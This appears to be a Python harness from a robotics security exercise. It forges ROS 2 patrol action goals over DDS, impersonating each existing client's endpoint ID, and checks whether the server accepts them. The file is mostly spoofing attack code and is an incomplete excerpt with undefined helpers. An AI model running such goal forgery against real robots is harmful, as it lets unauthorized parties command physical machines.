"""Accepts every goal, and asks for goals in the name of the exercise's own node, whose true ones then count as copies."""

from patrol_interfaces.action import Patrol as Forged
from rclpy.serialization import serialize_message

REQUESTS = "rq/patrol/_action/send_goalRequest"  # the topic of DDS that carries them
SPEED = 0.125  # [m/s] of the forged goals; no true one has it
believed = []


def forge(node):
    clients = [bytes(info.endpoint_gid[:16]) for info in node.get_publishers_info_by_topic(REQUESTS, no_mangle=True)]
    request = Forged.Impl.SendGoalService.Request()
    request.goal.speed = SPEED
    for client in clients:
        for number in range(1, 20):
            request.goal_id.uuid = list(os.urandom(16))
            send_to_all(data_message(client, number, serialize_message(request)))
    print("held" if clients else "no client", "forging goals of", len(clients), "clients", flush=True)


def attacked(on_goal):
    def on_goal_of_the_attack(node, goal):
        if goal.speed == SPEED:
            believed.append(goal)
            print("held, although", len(believed), "forged goals came", flush=True)
        elif not believed and not goal.waypoints:
            forge(node)
        return on_goal(node, goal)

    return on_goal_of_the_attack
